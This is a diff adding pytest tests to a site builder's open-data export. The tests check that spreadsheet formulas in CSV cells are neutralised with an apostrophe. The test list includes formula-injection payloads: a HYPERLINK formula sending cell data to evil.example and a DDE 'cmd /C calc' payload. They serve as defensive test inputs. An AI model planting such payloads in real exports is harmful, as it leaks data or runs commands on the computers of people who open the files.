@@ -6,6 +6,7 @@ import json
 import re
 import xml.etree.ElementTree as ET
 
+import pytest
 from sitebuild import FIXTURE_CONTENT, PUBLISHCONF, build
 
 SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
@@ -130,3 +131,58 @@ def test_publish_settings_make_urls_absolute(tmp_path):
     assert '<meta property="og:url" content="https://zlj.example.gov.cn/notices/41/">' in page
     assert '<link rel="canonical" href="https://zlj.example.gov.cn/notices/41/">' in page
     assert 'href="/notices/"' in page  # links on the site stay root-relative
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "  =1+1",
+    "\u3000=1+1",
+]
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "\r=1+1", "\t", "\r", "-"])
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value):
+    from gongshi_site.opendata import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value", ["示例市东区", "2024-06-11", "http://x/?a=b", "a=b", "A-1", "", 42, None, "1+1"]
+)
+def test_other_cells_are_left_as_they_are(value):
+    from gongshi_site.opendata import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == value
+
+
+def test_winners_csv_is_data_not_formulas(content, tmp_path):
+    """Every text an editor wrote (names, regions, 文号) that a spreadsheet would run is
+    shown as text there; winners.json keeps it as written."""
+    from incremental_support import as_json, read, write
+
+    document, body = read(content, "decisions/34.md")
+    document = as_json(document)
+    for award, formula, behind in zip(document["awards"], FORMULAS[:3], FORMULAS[4:], strict=True):
+        award["region"], award["citation"] = formula, behind
+    document["awards"][2]["recipient"] = FORMULAS[3]  # the person, revoked by nothing
+    document["document_number"] = FORMULAS[2]
+    write(content, "decisions/34.md", document, body)
+    output = tmp_path / "output"
+    finished = build(content, output)
+    assert finished.returncode == 0, finished.stderr + finished.stdout
+    raw = (output / "data/winners.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    assert sorted(row["region"] for row in rows) == sorted("'" + f for f in FORMULAS[:3])
+    assert sorted(row["citation"] for row in rows) == sorted("'" + f for f in FORMULAS[4:])
+    assert {row["decision_document_number"] for row in rows} == {"'" + FORMULAS[2]}
+    assert "'" + FORMULAS[3] in {row["name"] for row in rows}
+    for row in rows:
+        for column, value in row.items():
+            assert not re.match(r"[=+\-@\t\r]|\s+[=+\-@]", value), (column, value)
+    data = json.loads((output / "data/winners.json").read_text(encoding="utf-8"))
+    assert FORMULAS[3] in {winner["name"] for winner in data["winners"]}
